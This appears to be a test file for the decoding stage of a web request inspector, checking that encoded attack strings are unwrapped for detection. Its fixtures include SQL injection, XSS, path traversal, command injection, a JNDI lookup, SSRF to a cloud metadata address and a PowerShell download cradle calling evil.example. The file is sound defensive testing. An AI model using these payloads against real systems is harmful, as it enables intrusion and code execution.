import { describe, expect, test } from "bun:test";
import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { decodeBase64Runs, decodeHexRuns, decodeJsEscapes, decodeWholeText } from "../../src/decompose/encodings.ts";
import { percentDecode } from "../../src/parse/decode.ts";
import { decompose } from "../../src/decompose/index.ts";
import { expandedQueryValue as expand, leafAt, paths, request, sink } from "./fixtures.ts";

const b64 = (s: string) => Buffer.from(s).toString("base64");
const b64url = (s: string) => Buffer.from(s).toString("base64url");
const hex = (s: string) => Buffer.from(s).toString("hex");
/** An inflater with a request's budget, as the decompose stage hands one to decodeBase64Runs. */
const inflating = (raw = false) => {
  const s = sink();
  return (bytes: Uint8Array) => s.inflate(bytes, raw);
};

describe("whole-text decodings", () => {
  test("a further URL decoding (double encoding)", () => {
    expect(decodeWholeText("%3Cscript%3E")).toEqual({ encoding: "url", text: "<script>" });
    expect(decodeWholeText("100% sure")).toBeNull();
  });

  test("a value spelled with a lone % before each character is read as ASP on IIS reads it, the % dropped", () => {
    expect(decodeWholeText("%S%E%L%E%C%T %S%L%E%E%P(%5)")).toEqual({ encoding: "url", text: "SELECT SLEEP(5)" });
    expect(decodeWholeText("%(%/%*%!%C%A%S%E%*%/%2F")).toEqual({ encoding: "url", text: "(/*!CASE*//" });
    // Prose's percentages spell no word.
    expect(decodeWholeText("50% off and 5% more, 20%!")).toBeNull();
    expect(decodeWholeText("up 5%a day, 3%b")).toBeNull();
  });

  test("compatibility forms of ASCII are folded as NFKC folds them; CJK prose's own punctuation is not a reason to", () => {
    const folds: [string, string][] = [
      ["＇ ＵＮＩＯＮ ＳＥＬＥＣＴ 1--", "' UNION SELECT 1--"],
      ["..／..／etc／passwd", "../../etc/passwd"],
      ["﹤script﹥alert(1)﹤/script﹥", "<script>alert(1)</script>"],
      ["𝐔𝐍𝐈𝐎𝐍 𝐒𝐄𝐋𝐄𝐂𝐓", "UNION SELECT"],
      ["127.0.0.1；id", "127.0.0.1;id"],
      ["x＆＆whoami", "x&&whoami"],
      ["ⓤⓝⓘⓞⓝ ⓢⓔⓛⓔⓒⓣ", "union select"],
      ["1 ᵘⁿⁱᵒⁿ ˢᵉˡᵉᶜᵗ", "1 union select"],
    ];
    for (const [sent, folded] of folds) expect(decodeWholeText(sent)).toEqual({ encoding: "nfkc", text: folded });
    expect(decodeWholeText("admin'－－")).toEqual({ encoding: "nfkc", text: "admin'--" });
    for (const prose of ["价格（元）：100；数量：2", "東京（とうきょう）－大阪"]) expect(decodeWholeText(prose)).toBeNull();
  });

  test("URL decoding reads each run of escapes as UTF-8, or Latin-1 when it is not; other text is kept as it is", () => {
    expect(percentDecode("中文 %E4%B8%AD %F1 %zz %")).toBe("中文 中 ñ %zz %");
    expect(percentDecode("no escapes")).toBe("no escapes");
  });

  test("JS escapes: \\xNN, \\uXXXX, \\u{...} and octal; an escaped backslash is left alone", () => {
    expect(decodeJsEscapes("window['\\x61lert']")).toBe("window['alert']");
    expect(decodeJsEscapes("\\u0061\\u{6c}ert")).toBe("alert");
    expect(decodeJsEscapes("\\141\\154ert")).toBe("alert");
    expect(decodeJsEscapes("C:\\\\x61")).toBe("C:\\\\x61");
    expect(decodeJsEscapes("\\xZZ \\u{110000}")).toBe("\\xZZ \\u{110000}");
  });

  test("HTML entities from the full HTML5 table, numeric ones without semicolons too", () => {
    expect(decodeWholeText("&lt;svg onload&equals;alert&lpar;1&rpar;&gt;")?.text).toBe("<svg onload=alert(1)>");
    expect(decodeWholeText("javascript&#58alert&#x28;1)")?.text).toBe("javascript:alert(1)");
    // as in an attribute: a query string's `&notify=` is no `&not` entity
    expect(decodeWholeText("a=1&notify=2")).toBeNull();
  });

  test("in a value that is markup already, &lt; &gt; &amp; &quot; are its text (a rich-text editor's); other references still decode", () => {
    for (const v of ['<pre><code>&lt;script src="app.js"&gt;&lt;/script&gt;</code></pre>', "<p>Use the &lt;script&gt; tag</p>", "<p>Tom &amp; Jerry</p>"]) expect([v, decodeWholeText(v)]).toEqual([v, null]);
    expect(decodeWholeText("<p>&#60;script&#62;alert(1)</p>")?.text).toBe("<p><script>alert(1)</p>");
    expect(decodeWholeText('<a href="&#106;avascript&colon;x()">&lt;b&gt;</a>')?.text).toBe('<a href="javascript:x()">&lt;b&gt;</a>');
    // Without markup around them, they are what hides the markup; a tag put before them makes no editor's content.
    expect(decodeWholeText("&lt;script&gt;alert(1)&lt;/script&gt;")?.text).toBe("<script>alert(1)</script>");
    expect(decodeWholeText("<br>&lt;script src=//e.example/x.js&gt;&lt;/script&gt;")?.text).toBe("<br><script src=//e.example/x.js></script>");
  });
});

/** Leaves of a GET request to `target` (sent as written) with extra header lines. */
function leavesOf(target: string, headers: string[] = []) {
  return decompose(request([`GET ${target} HTTP/1.1`, "Host: x", ...headers])).leaves;
}

describe("URL decodings lenient servers apply", () => {
  test("IIS %uXXXX escapes are a url child", () => {
    expect(leafAt(expand("..%u002f..%u002fetc%u002fpasswd").leaves, "query.q~url")).toMatchObject({ text: "../../etc/passwd", encodings: ["url"] });
  });

  test("overlong UTF-8 in a value the parser decoded once (`..%c0%af` reads as `..À¯`) is folded in a url child", () => {
    const leaves = leavesOf("/x?f=..%c0%af..%e0%80%afetc/passwd&g=%c0%ae%c0%ae/boot.ini");
    expect(leafAt(leaves, "query.f~url")).toMatchObject({ text: "../../etc/passwd", encodings: ["url"] });
    expect(leafAt(leaves, "query.g~url").text).toBe("../boot.ini");
  });

  test("the path: decoded once in its own leaf, overlong and double encodings in a child of it", () => {
    expect(leafAt(leavesOf("/a/%2e%2e/%2e%2e/etc/passwd"), "path").text).toBe("/a/../../etc/passwd");
    expect(leafAt(leavesOf("/static/..%c0%af..%c1%9cwindows/win.ini"), "path~url")).toMatchObject({ kind: "path", text: "/static/../..\\windows/win.ini", encodings: ["url"] });
    expect(leafAt(leavesOf("/static/%252e%252e%252fetc/passwd"), "path~url").text).toBe("/static/../etc/passwd");
  });

  test("double-percent forms: `%%32%65` (a `%` then an encoded `2e`) and `%252e` decode on the second reading", () => {
    expect(leafAt(leavesOf("/x?f=%%32%65%%32%65/etc"), "query.f~url").text).toBe("../etc");
    expect(leafAt(leavesOf("/x?f=%252e%252e%252f"), "query.f~url").text).toBe("../");
  });

  test("a query or form value's `+` is a space; `\\n` written as two characters is no encoding", () => {
    expect(leafAt(leavesOf("/x?c=cat+/etc/passwd"), "query.c").text).toBe("cat /etc/passwd");
    expect(paths(expand("a\\nb\\r\\tc").leaves)).toEqual(["query.q"]);
  });

  test("a second URL decoding reads `+` as a space while the text is still form-encoded (no whitespace in it)", () => {
    expect(leafAt(expand("UnIon+seleCt%0A").leaves, "query.q~url").text).toBe("UnIon seleCt\n");
    expect(leafAt(expand("1+1 %3D 2").leaves, "query.q~url").text).toBe("1+1 = 2");
  });

  test("a backslash before most letters, which a shell and JavaScript drop, is read without them; a path, LaTeX or a regular expression is not", () => {
    expect(decodeWholeText("\\j\\av\\a\\s\\cr\\i\\pt\\:\\a\\l\\ert\\(1\\)")).toEqual({ encoding: "js-escape", text: "javascript:alert(1)" });
    expect(decodeWholeText(";u\\n\\a\\m\\e -a")?.text).toBe(";uname -a");
    expect(decodeWholeText(";c\\a\\t /e\\t\\c/p\\a\\s\\s\\w\\d")?.text).toBe(";cat /etc/passwd");
    for (const text of ["C:\\Users\\john\\Documents\\report.docx", "\\frac{1}{2} + \\alpha", "line one\\nline two\\tend", "a\\nb\\r\\tc"]) expect([text, decodeWholeText(text)]).toEqual([text, null]);
  });

  test("HTML numeric references without semicolons decode", () => {
    expect(decodeWholeText("&#60script&#62alert(1)&#x3c/script&#x3e")?.text).toBe("<script>alert(1)</script>");
  });

  test("look-alikes get no child: a percent sign in prose, Latin-1 text, a base64 image", () => {
    for (const v of ["100% sure", "50%off at 20%", "café à la crème", "À la carte"]) expect(paths(expand(v).leaves)).toEqual(["query.q"]);
    const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    expect(paths(expand(`data:image/png;base64,${png}`).leaves)).toEqual(["query.q"]);
  });

  test("bytes no percent decoding produced are not read as overlong UTF-8: a header as sent, a file's content", () => {
    const gif = "GIF89a\u00f0\u0000\u00c0\u00af\u00e0\u0080\u00af";
    expect(paths(leavesOf("/", [`X-Data: ${gif}`]))).toEqual(["path", "header.x-data"]);
    const s = sink({ expand: true });
    s.value("body", "body.multipart.f", "f", gif);
    expect(paths(s.leaves)).toEqual(["body.multipart.f"]);
  });

  test("browser-vocabulary headers are judged but not searched for base64 runs, unless the whole value is one token; other headers are", () => {
    const token = b64("' union select password from users--");
    const leaves = leavesOf("/", [`User-Agent: Mozilla/5.0 ${token}`, `Accept-Language: en-US,${token}`, `X-Trace: ${token}`]);
    expect(leafAt(leaves, "header.user-agent").text).toEndWith(token);
    expect(leaves.filter((l) => l.encodings.includes("base64")).map((l) => l.path)).toEqual(["header.x-trace~base64"]);
    // No browser sends a User-Agent that is one base64 token (padded or not, base64url too): a client that does is read.
    for (const whole of [token, token.replace(/=+$/, ""), b64url("${jndi:ldap://x.example/a}")]) {
      const read = leavesOf("/", [`User-Agent: ${whole}`]).filter((l) => l.encodings.includes("base64"));
      expect([whole, read.map((l) => l.path)]).toEqual([whole, ["header.user-agent~base64"]]);
    }
  });
});

describe("runs", () => {
  test("base64 and base64url of text are decoded; words, ids and hashes are not", () => {
    expect(decodeBase64Runs(b64("' union select password from users--"))).toEqual(["' union select password from users--"]);
    expect(decodeBase64Runs(`token=${b64url("<svg/onload=alert(1)>??")}`)).toEqual(["<svg/onload=alert(1)>??"]);
    for (const plain of ["internationalization", "6461efa60000000012033e4c", "Mozilla/5.0 AppleWebKit/537.36", "/nav/Documentation/Amazon", "d41d8cd98f00b204e9800998ecf8427e"]) {
      expect(decodeBase64Runs(plain)).toEqual([]);
    }
  });

  test("UTF-16LE text in base64 (PowerShell's -EncodedCommand) is decoded; UTF-16 of other scripts and random bytes are not", () => {
    const cradle = 'IEX (New-Object Net.WebClient).DownloadString("http://evil.example/a.ps1")';
    expect(decodeBase64Runs(Buffer.from(cradle, "utf16le").toString("base64"))).toEqual([cradle]);
    expect(decodeBase64Runs(`powershell -nop -enc ${Buffer.from("whoami /all", "utf16le").toString("base64")}`)).toEqual(["whoami /all"]);
    expect(decodeBase64Runs(Buffer.from("日本語のテキストです、よろしく", "utf16le").toString("base64"))).toEqual([]);
    expect(decodeBase64Runs(Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 97 + 13) % 256)).toString("base64"))).toEqual([]);
  });

  test("gzip, zlib and raw deflate in base64 are inflated, whatever their groups look like; random bytes are not read as text", () => {
    const sqli = "' UNION SELECT username,password FROM users-- -";
    expect(decodeBase64Runs(gzipSync(sqli).toString("base64"), inflating())).toEqual([sqli]);
    expect(decodeBase64Runs(deflateSync(sqli).toString("base64url"), inflating())).toEqual([sqli]);
    // A gzip stream whose header names a file in plain letters, a zlib stream that opens with a stored
    // block of plain text: their groups look like text, and they are still inflated.
    const named = Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3]), Buffer.from(`${"a".repeat(120)}\0`), gzipSync(sqli).subarray(10)]);
    expect(decodeBase64Runs(named.toString("base64"), inflating())).toEqual([sqli]);
    // Without an inflater (a caller that gives none), no compressed run is read.
    expect(decodeBase64Runs(gzipSync(sqli).toString("base64"))).toEqual([]);
    // SAML's redirect binding: raw deflate, no header to announce it, at any level (a stored block too).
    const saml = `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><r>x</r></samlp:AuthnRequest>`;
    expect(decodeBase64Runs(deflateRawSync(saml).toString("base64"), inflating(true))).toEqual([saml]);
    expect(decodeBase64Runs(deflateRawSync(saml, { level: 0 }).toString("base64"), inflating(true))).toEqual([saml]);
    const redirect = sink({ expand: true });
    redirect.value("query", "query.SAMLRequest", "SAMLRequest", deflateRawSync(saml).toString("base64"));
    expect(redirect.leaves.map((l) => l.text)).toContain(saml);
    // Elsewhere raw deflate is not tried: it announces itself with no header, and every binary token would cost a zlib call.
    expect(decodeBase64Runs(deflateRawSync(saml).toString("base64"), inflating())).toEqual([]);
    const random = Buffer.from(Array.from({ length: 96 }, (_, i) => (i * 73 + 11) % 256)).toString("base64");
    expect(decodeBase64Runs(random, inflating(true))).toEqual([]);
  });

  test("a serialized object stream (Java, .NET BinaryFormatter or ObjectStateFormatter, pickle) is read byte for byte, also compressed; other binary is not", () => {
    const java = Buffer.concat([Buffer.from([0xac, 0xed, 0, 5, 0x73, 0x72, 0, 0x3a]), Buffer.from("org.apache.commons.collections.functors.InvokerTransformer")]);
    expect(decodeBase64Runs(gzipSync(java).toString("base64"), inflating())).toEqual([java.toString("latin1")]);
    const binaryFormatter = Buffer.concat([Buffer.from([0, 1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 1, 0, 0, 0, 0, 0, 0, 0, 0x0c, 2]), Buffer.from("Microsoft.PowerShell.Editor, Version=3.0.0.0")]);
    const losFormatter = Buffer.concat([Buffer.from([0xff, 1, 0x32, binaryFormatter.length]), binaryFormatter]);
    expect(decodeBase64Runs(losFormatter.toString("base64"), inflating())).toEqual([losFormatter.toString("latin1")]);
    // An ordinary ViewState (a Pair, `FF 01 0F`) and other binary stay unread.
    const viewState = Buffer.concat([Buffer.from([0xff, 1, 0x0f, 0x0f, 0x05, 0x0a, 0x2d, 0x31, 0x35, 0x39, 0x34, 0x0f, 0x16, 2, 0x1e]), Buffer.from(Array.from({ length: 40 }, (_, i) => (i * 37) % 256))]);
    expect(decodeBase64Runs(viewState.toString("base64"), inflating())).toEqual([]);
    expect(decodeBase64Runs(gzipSync(Buffer.from(Array.from({ length: 200 }, (_, i) => (i * 73 + 11) % 256))).toString("base64"), inflating())).toEqual([]);
  });

  test("compressed runs inflate within one budget per request: a bomb, or bombs nested in bombs, cost a bounded amount", () => {
    const one = decodeBase64Runs(gzipSync("A".repeat(50_000_000)).toString("base64"), inflating());
    expect(one).toHaveLength(1);
    expect(one[0]!.length).toBeLessThanOrEqual(1 << 18);
    // Eight runs of gzip in base64 a value, each holding eight more, four levels deep: a 4 KB request.
    let inner = gzipSync(`${"x".repeat(800)}' UNION SELECT 1--`).toString("base64");
    for (let depth = 0; depth < 4; depth++) inner = gzipSync(Array.from({ length: 8 }, () => inner).join(" ")).toString("base64");
    const s = sink({ expand: true });
    s.value("query", "query.q", "q", Array.from({ length: 8 }, () => inner).join(" "));
    expect(s.leaves.reduce((n, l) => n + l.text.length, 0)).toBeLessThan(4 << 20);
    expect(s.flags).toContain("too-deep");
  });

  test("a short base64 token is decoded when it stands alone: the whole value, or a path segment", () => {
    expect(decodeBase64Runs(b64("| id"))).toEqual(["| id"]); // fCBpZA==, 8 characters with its padding
    expect(decodeBase64Runs(b64("${7*7}"))).toEqual(["${7*7}"]);
    expect(decodeBase64Runs(`/files/${b64("{{7*7}}")}`)).toEqual(["{{7*7}}"]);
    expect(decodeBase64Runs(`/download/${b64url("<svg/onload=alert(1)>")}/raw`)).toEqual(["<svg/onload=alert(1)>"]);
    // Words and slugs of that length decode to no text; inside a longer word a short token is not looked for.
    for (const plain of ["settings", "Accounts", "12345678", "abcdefgh", "/products/checkout", `xx${b64("| id")}`]) expect(decodeBase64Runs(plain)).toEqual([]);
  });

  test("a base64 token behind a prefix joined by `_` is found", () => {
    expect(decodeBase64Runs(`XYW_${b64('{"a":"b","c":"d"}')}`)).toEqual(['{"a":"b","c":"d"}']);
  });

  test("hex runs that spell text are replaced in place; numbers and hashes stay", () => {
    expect(decodeHexRuns(`1 union select 0x${hex("admin")},2`)).toBe("1 union select admin,2");
    expect(decodeHexRuns(hex("<script>alert(1)</script>"))).toBe("<script>alert(1)</script>");
    expect(decodeHexRuns("1688377999814 12345678")).toBeNull();
    expect(decodeHexRuns("d41d8cd98f00b204e9800998ecf8427e")).toBeNull();
    // UUID and dash-joined id segments are not hex-encoded text, whatever they happen to spell
    expect(decodeHexRuns("x-request-id: 2c6a6f42-fef7-4108-b1ca-3c7363726970")).toBeNull();
  });
});

describe("expandEncodings", () => {
  test("JSON that JSON.parse refuses is also read with its strings' escapes undone, as a lenient parser reads it", () => {
    const s = expand('{"q":"1\'\\nUNION\\nSELECT\\t1--","n":NaN}');
    expect(leafAt(s.leaves, "query.q~js-escape").text).toBe('{"q":"1\'\nUNION\nSELECT\t1--","n":NaN}');
    // A body: the text the body stage could not parse.
    const body = decompose(request(["POST /api HTTP/1.1", "Host: a", "Content-Type: application/json"], '{"q":"<img\\nsrc=x>"}{}'));
    expect(leafAt(body.leaves, "body~js-escape").text).toBe('{"q":"<img\nsrc=x>"}{}');
    // JSON's strings are in double quotes: a Python dict's repr is no JSON to any parser.
    expect(paths(expand("{'msg': 'Line one\\nid card', 'ok': True}").leaves).some((p) => p.includes("js-escape"))).toBe(false);
    // The reading is made once: its own backslashes are what the strings hold.
    expect(paths(expand('["C:\\\\new", NaN]').leaves).filter((p) => p.includes("js-escape"))).toEqual(["query.q~js-escape"]);
    // A backslash escaped is one backslash, and no escape of what follows it.
    expect(decodeJsEscapes('["a\\\\nb\\"c"]', true)).toBe('["a\\nb"c"]');
  });

  test("base64 of JSON of a payload in a query parameter: each layer a child leaf", () => {
    const s = expand(b64(JSON.stringify({ user: { name: "admin' OR '1'='1" } })));
    const leaf = leafAt(s.leaves, "query.q~base64~json.user.name");
    expect(leaf).toEqual({ location: "query", path: "query.q~base64~json.user.name", name: "name", text: "admin' OR '1'='1", kind: "value", encodings: ["base64", "json"] });
    expect(leafAt(s.leaves, "query.q").encodings).toEqual([]); // the parent stays
  });

  test("JSON in a parameter: keys that are not plain words become key leaves", () => {
    const s = expand('{"$where":"sleep(1000)","list":["<img src=x onerror=alert(1)>"]}');
    expect(leafAt(s.leaves, "query.q~json.$where", "key").text).toBe("$where");
    expect(leafAt(s.leaves, "query.q~json.$where", "value").text).toBe("sleep(1000)");
    expect(leafAt(s.leaves, "query.q~json.list[0]").text).toBe("<img src=x onerror=alert(1)>");
  });

  test("JSON in a parameter whose top-level query is GraphQL (a multipart upload's operations) gives a GraphQL document", () => {
    const s = expand(JSON.stringify({ query: "query { __schema { types { name } } }", variables: { id: "1" } }));
    expect(leafAt(s.leaves, "query.q~json.query", "graphql").text).toBe("query { __schema { types { name } } }");
    expect(leafAt(s.leaves, "query.q~json.query", "graphql").kind).toBe("graphql");
  });

  test("a URL in a value keeps its leaf and gets its query parameters as children", () => {
    const s = expand("https://evil.example/cb?next=%2F%2F169.254.169.254%2Flatest&x=1");
    expect(leafAt(s.leaves, "query.q").text).toStartWith("https://evil.example/cb");
    const next = leafAt(s.leaves, "query.q~url-in-value.query.next");
    expect(next.text).toBe("//169.254.169.254/latest");
    expect(next.encodings).toEqual(["url-in-value"]);
  });

  test("a query string in a value (a double-encoded form) gets its parameters as children; base64 padding is none", () => {
    const s = expand("pay%3DAND%201%3D1%26next%3Dx");
    expect(leafAt(s.leaves, "query.q~url").text).toBe("pay=AND 1=1&next=x");
    expect(leafAt(s.leaves, "query.q~url~url-in-value.query.pay")).toMatchObject({ text: "AND 1=1", encodings: ["url", "url-in-value"] });
    expect(leafAt(s.leaves, "query.q~url~url-in-value.query.next").text).toBe("x");
    expect(leafAt(expand("a=1&b=<script>").leaves, "query.q~url-in-value.query.b").text).toBe("<script>");
    expect(paths(expand("YWJjZA%3D%3D").leaves)).not.toContain("query.q~url-in-value.query.YWJjZA");
  });

  test("a URL carried in the path becomes a value leaf of its own", () => {
    const s = sink({ expand: true });
    s.value("path", "path", "", "/proxy/http://169.254.169.254/latest/meta-data/", "path");
    expect(leafAt(s.leaves, "path~url-in-value")).toMatchObject({ kind: "value", text: "http://169.254.169.254/latest/meta-data/", encodings: ["url-in-value"] });
    const plain = sink({ expand: true });
    plain.value("path", "path", "", "/docs/http-guide/intro", "path");
    expect(paths(plain.leaves)).toEqual(["path"]);
  });

  test("layered decodings chain: double URL encoding of HTML entities", () => {
    const s = expand("%26lt%3Bscript%26gt%3B");
    expect(leafAt(s.leaves, "query.q~url").text).toBe("&lt;script&gt;");
    expect(leafAt(s.leaves, "query.q~url~html-entity")).toMatchObject({ text: "<script>", encodings: ["url", "html-entity"] });
  });

  test("plain values get no children", () => {
    for (const v of ["hello world", "12345", "2026-01-05T10:00:00Z", "zh-CN,zh;q=0.9", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "a@b.com"]) {
      expect(paths(expand(v).leaves)).toEqual(["query.q"]);
    }
  });

  test("a 5 KB padded value keeps its payload at the end whole, and its encoded payload is still decoded", () => {
    const payload = "<script>alert(document.domain)</script>";
    const padded = `${"a".repeat(5000)} ${payload}`;
    expect(leafAt(expand(padded).leaves, "query.q").text).toBe(padded);
    const encoded = `${"a ".repeat(2500)}${encodeURIComponent(payload)}`;
    expect(leafAt(expand(encoded).leaves, "query.q~url").text).toEndWith(payload);
  });

  test("layers past the limit are flagged too-deep, not followed", () => {
    let v = "<script>alert(1)</script>";
    for (let i = 0; i < 8; i++) v = b64(v);
    const s = expand(v, { maxEncodingLayers: 3 });
    expect(s.leaves.length).toBe(4);
    expect(s.flags).toEqual(["too-deep"]);
  });

  test("hostile values stay linear and never throw", () => {
    for (const v of ["%".repeat(200_000), "\\u{".repeat(100_000), "&#".repeat(100_000), "A".repeat(400_001), "{".repeat(100_000) + "}", "0x".repeat(100_000), "https://" + "a".repeat(100_000) + "?" + "a=1&".repeat(20_000)]) {
      expect(() => expand(v)).not.toThrow();
    }
  });
});

test("a megabyte of hex-encoded text decodes in one piece", () => {
  const text = "<svg onload=alert(1)> ".repeat(25_000);
  expect(decodeHexRuns(hex(text))).toBe(text);
});
